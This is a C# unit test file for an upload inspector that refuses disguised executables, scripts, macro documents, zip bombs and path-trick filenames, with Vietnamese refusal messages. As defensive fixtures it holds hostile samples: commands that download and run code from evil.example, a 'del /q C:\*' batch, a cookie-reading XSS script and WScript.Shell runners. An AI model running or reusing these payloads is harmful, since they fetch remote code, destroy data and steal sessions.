using EditorialHub.Core.Articles;
using EditorialHub.Core.Articles.Attachments;

namespace EditorialHub.Tests.Articles;

public sealed class AttachmentInspectorTests
{
    private const string Runs = "EditorialHub không nhận tệp chạy được.";
    private const string Scripts = "EditorialHub không nhận tập lệnh hay trang web.";

    public static TheoryData<string, byte[], AttachmentKind, string> GenuineFiles => new()
    {
        { "Kế hoạch hội giảng.pdf", AttachmentFiles.Pdf(), AttachmentKind.Document, "application/pdf" },
        { "bien-ban.docx", AttachmentFiles.Docx(), AttachmentKind.Document, "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { "diem-thi-dua.xlsx", AttachmentFiles.Xlsx(), AttachmentKind.Document, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { "chuyen-de.odt", AttachmentFiles.Odt(), AttachmentKind.Document, "application/vnd.oasis.opendocument.text" },
        { "cong-van-cu.doc", AttachmentFiles.Doc(), AttachmentKind.Document, "application/msword" },
        { "khai-giang.png", AttachmentFiles.Png(), AttachmentKind.Image, "image/png" },
        { "khai-giang.JPG", AttachmentFiles.Jpeg(), AttachmentKind.Image, "image/jpeg" },
        { "khai-giang.jpeg", AttachmentFiles.Jpeg(), AttachmentKind.Image, "image/jpeg" },
        { "co.gif", AttachmentFiles.Gif(), AttachmentKind.Image, "image/gif" },
        { "anh.webp", AttachmentFiles.WebP(), AttachmentKind.Image, "image/webp" },
        { "tiet-day.mp4", AttachmentFiles.Mp4(), AttachmentKind.Video, "video/mp4" },
    };

    [Theory]
    // Not enumerated at discovery: xunit would serialize the multi-megabyte files into the test cases
    // (a discovery of many GB, killed by the out-of-memory killer on a shared 24 GB machine).
    [MemberData(nameof(GenuineFiles), DisableDiscoveryEnumeration = true)]
    public void Inspect_GenuineFile_AcceptedWithItsKind(string name, byte[] content, AttachmentKind kind, string contentType)
    {
        var inspected = AttachmentInspector.Inspect(name, new MemoryStream(content));

        Assert.Equal(kind, inspected.Kind);
        Assert.Equal(contentType, inspected.ContentType);
    }

    /// <summary>Every hostile file tried, with the exact words the uploader reads.</summary>
    public static TheoryData<string, byte[], string> HostileFiles => new()
    {
        { "bao-cao.pdf", AttachmentFiles.WindowsExecutable(),
            $"Tệp «bao-cao.pdf» không phải PDF thật: nội dung là chương trình chạy được (.exe). {Runs}" },
        { "ke-hoach.docx", AttachmentFiles.WindowsExecutable(),
            $"Tệp «ke-hoach.docx» không phải tài liệu Word (.docx) thật: nội dung là chương trình chạy được (.exe). {Runs}" },
        { "anh.png", AttachmentFiles.Elf(),
            $"Tệp «anh.png» không phải ảnh PNG thật: nội dung là chương trình chạy được (ELF, Linux). {Runs}" },
        { "anh.jpg", AttachmentFiles.Text("#!/bin/sh\ncurl http://evil.example/x | sh\n"),
            $"Tệp «anh.jpg» không phải ảnh JPEG thật: nội dung là tập lệnh (shell script). {Scripts}" },
        { "anh.png", AttachmentFiles.Text("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
            $"Tệp «anh.png» không phải ảnh PNG thật: nội dung là trang web HTML (có thể chạy mã trong trình duyệt). {Scripts}" },
        { "logo.gif", AttachmentFiles.Text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
            $"Tệp «logo.gif» không phải ảnh GIF thật: nội dung là ảnh SVG (có thể chạy mã trong trình duyệt). {Scripts}" },
        { "thong-bao.pdf", AttachmentFiles.Text("var shell = new ActiveXObject('WScript.Shell'); shell.Run('cmd');"),
            $"Tệp «thong-bao.pdf» không phải PDF thật: nội dung là tập lệnh (JavaScript, VBScript, PowerShell hoặc batch). {Scripts}" },
        { "cong-van.doc", AttachmentFiles.Text("Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\""),
            $"Tệp «cong-van.doc» không phải tài liệu Word (.doc) thật: nội dung là tập lệnh (JavaScript, VBScript, PowerShell hoặc batch). {Scripts}" },
        { "diem.xlsx", AttachmentFiles.Text("Invoke-WebRequest http://evil.example/a.ps1 | iex"),
            $"Tệp «diem.xlsx» không phải bảng tính Excel (.xlsx) thật: nội dung là tập lệnh (JavaScript, VBScript, PowerShell hoặc batch). {Scripts}" },
        { "lich.pdf", AttachmentFiles.Text("@echo off\r\ndel /q C:\\*\r\n"),
            $"Tệp «lich.pdf» không phải PDF thật: nội dung là tập lệnh (JavaScript, VBScript, PowerShell hoặc batch). {Scripts}" },
        { "tai-lieu.docx", AttachmentFiles.Jar(),
            $"Tệp «tai-lieu.docx» không phải tài liệu Word (.docx) thật: nội dung là chương trình Java (.jar). {Runs}" },
        { "setup.exe", AttachmentFiles.WindowsExecutable(), $"Tệp «setup.exe» là tệp chạy được hoặc tập lệnh (.exe). {Runs}" },
        { "cai-dat.msi", AttachmentFiles.Ole2Installer(), $"Tệp «cai-dat.msi» là tệp chạy được hoặc tập lệnh (.msi). {Runs}" },
        { "run.bat", AttachmentFiles.Text("@echo off"), $"Tệp «run.bat» là tệp chạy được hoặc tập lệnh (.bat). {Runs}" },
        { "a.js", AttachmentFiles.Text("alert(1)"), $"Tệp «a.js» là tệp chạy được hoặc tập lệnh (.js). {Runs}" },
        { "a.vbs", AttachmentFiles.Text("MsgBox 1"), $"Tệp «a.vbs» là tệp chạy được hoặc tập lệnh (.vbs). {Runs}" },
        { "a.ps1", AttachmentFiles.Text("iex 1"), $"Tệp «a.ps1» là tệp chạy được hoặc tập lệnh (.ps1). {Runs}" },
        { "a.scr", AttachmentFiles.WindowsExecutable(), $"Tệp «a.scr» là tệp chạy được hoặc tập lệnh (.scr). {Runs}" },
        { "a.html", AttachmentFiles.Text("<p>x</p>"), $"Tệp «a.html» là tệp chạy được hoặc tập lệnh (.html). {Runs}" },
        { "a.svg", AttachmentFiles.Text("<svg/>"), $"Tệp «a.svg» là tệp chạy được hoặc tập lệnh (.svg). {Runs}" },
        { "bai.docm", AttachmentFiles.MacroDocx(), $"Tệp «bai.docm» là tệp chạy được hoặc tập lệnh (.docm). {Runs}" },
        { "ghi-chu.txt", AttachmentFiles.Text("ghi chú"),
            $"EditorialHub không nhận loại tệp «.txt» (tệp «ghi-chu.txt»); chỉ nhận {AttachmentMessages.Accepted}." },
        { "README", AttachmentFiles.Text("x"),
            $"Tệp «README» không có phần mở rộng cho biết loại tệp. EditorialHub chỉ nhận {AttachmentMessages.Accepted}." },
        { "ke-hoach.docx", AttachmentFiles.Pdf(),
            "Tệp «ke-hoach.docx» không phải tài liệu Word (.docx) thật: nội dung là PDF. Hãy lưu lại đúng định dạng rồi tải lên lại." },
        { "anh.png", AttachmentFiles.Jpeg(),
            "Tệp «anh.png» không phải ảnh PNG thật: nội dung là ảnh JPEG. Hãy lưu lại đúng định dạng rồi tải lên lại." },
        { "diem.xlsx", AttachmentFiles.Docx(),
            "Tệp «diem.xlsx» không phải bảng tính Excel (.xlsx) thật: tệp Office bên trong là loại khác (ví dụ tài liệu Word mang tên bảng tính)." },
        { "bang.ods", AttachmentFiles.Odt(),
            "Tệp «bang.ods» không phải bảng tính OpenDocument (.ods) thật: tệp OpenDocument bên trong là «application/vnd.oasis.opendocument.text»." },
        { "nen.docx", ZipOf("readme.txt"),
            "Tệp «nen.docx» không phải tài liệu Word (.docx) thật: tệp nén không có [Content_Types].xml của Office." },
        { "van-ban.odt", ZipOf("content.xml"),
            "Tệp «van-ban.odt» không phải văn bản OpenDocument (.odt) thật: tệp nén không có mục mimetype của OpenDocument." },
        { "hong.docx", [.. "PK\x03\x04"u8, .. new byte[600]],
            "Tệp «hong.docx» không phải tài liệu Word (.docx) thật: tệp nén bị hỏng." },
        { "cong-van.doc", AttachmentFiles.Ole2Installer(),
            "Tệp «cong-van.doc» không phải tài liệu Word (.doc) thật: tệp Office dạng cũ bên trong là loại khác hoặc là gói cài đặt." },
        { "bai.docx", AttachmentFiles.MacroDocx(),
            "Tệp «bai.docx» có chứa macro (mã chạy được). EditorialHub không nhận tài liệu có macro; hãy lưu lại thành tài liệu thường rồi tải lên lại." },
        { "bom.docx", AttachmentFiles.ZipBombDocx(50), AttachmentMessages.ZipBomb("bom.docx") },
        { "nhieu-muc.docx", AttachmentFiles.ManyEntriesDocx(AttachmentInspector.MaxZipEntries + 1), AttachmentMessages.ZipBomb("nhieu-muc.docx") },
        { "rong.pdf", [], "Tệp «rong.pdf» rỗng." },
        { "video.webm", AttachmentFiles.Mp4(),
            "Tệp «video.webm» không phải video WebM thật: nội dung là video MP4. Hãy lưu lại đúng định dạng rồi tải lên lại." },
    };

    [Theory]
    // Not enumerated at discovery: xunit would serialize the multi-megabyte files into the test cases
    // (a discovery of many GB, killed by the out-of-memory killer on a shared 24 GB machine).
    [MemberData(nameof(HostileFiles), DisableDiscoveryEnumeration = true)]
    public void Inspect_HostileFile_RefusedSayingWhatItIs(string name, byte[] content, string expected)
    {
        var refusal = Assert.Throws<WorkflowException>(() => AttachmentInspector.Inspect(name, new MemoryStream(content)));

        Assert.Equal(WorkflowError.AttachmentRefused, refusal.Code);
        Assert.Equal(expected, refusal.Message);
    }

    [Fact]
    public void Message_ExampleOfTheBrief_WordForWord() =>
        Assert.Equal(
            "Tệp «x.pdf» không phải PDF thật: nội dung là chương trình chạy được (.exe). EditorialHub không nhận tệp chạy được.",
            Assert.Throws<WorkflowException>(() => AttachmentInspector.Inspect("x.pdf", new MemoryStream(AttachmentFiles.WindowsExecutable()))).Message);

    [Fact]
    public void TooLarge_TenMegabytes_SaidInMegabytes() =>
        Assert.Equal("Tệp «lon.pdf» vượt quá 10 MB.", AttachmentMessages.TooLarge("lon.pdf", 10L * 1024 * 1024));

    [Theory]
    [InlineData("../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData("C:\\x\\a.pdf", "a.pdf")]
    [InlineData("\\\\server\\share\\b.pdf", "b.pdf")]
    [InlineData("a.pdf\0.exe", "a.pdf.exe")]
    [InlineData("bao\ncao\r\nthang.pdf", "bao cao thang.pdf")]
    [InlineData("bai\u202Egpj.exe", "baigpj.exe")]
    [InlineData("  ..báo cáo.pdf.  ", "báo cáo.pdf")]
    [InlineData("<script>.pdf", "_script_.pdf")]
    [InlineData("a:b|c?.pdf", "a_b_c_.pdf")]
    [InlineData("../", "")]
    [InlineData("", "")]
    public void Clean_PathTricksAndControls_LastSegmentOnly(string given, string expected) =>
        Assert.Equal(expected, AttachmentNames.Clean(given));

    [Fact]
    public void Clean_FiveHundredCharacters_BoundedKeepingTheExtension()
    {
        var clean = AttachmentNames.Clean(new string('ả', 500) + ".pdf");

        Assert.Equal(Attachment.FileNameMaxLength, clean.Length);
        Assert.EndsWith("ả.pdf", clean);
    }

    [Theory]
    [InlineData("a.pdf\0.exe", "exe")]
    [InlineData("bai\u202Egpj.exe", "exe")]
    [InlineData("../../windows/system32/calc.exe", "exe")]
    public void CheckName_ExecutableHiddenByControls_Refused(string given, string extension)
    {
        var clean = AttachmentNames.Clean(given);

        var refusal = Assert.Throws<WorkflowException>(() => AttachmentInspector.CheckName(clean));

        Assert.Equal(AttachmentMessages.ExecutableExtension(clean, extension), refusal.Message);
    }

    private static byte[] ZipOf(string entryName)
    {
        using var memory = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(memory, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        using (var writer = new StreamWriter(zip.CreateEntry(entryName).Open()))
            writer.Write("x");
        return memory.ToArray();
    }
}
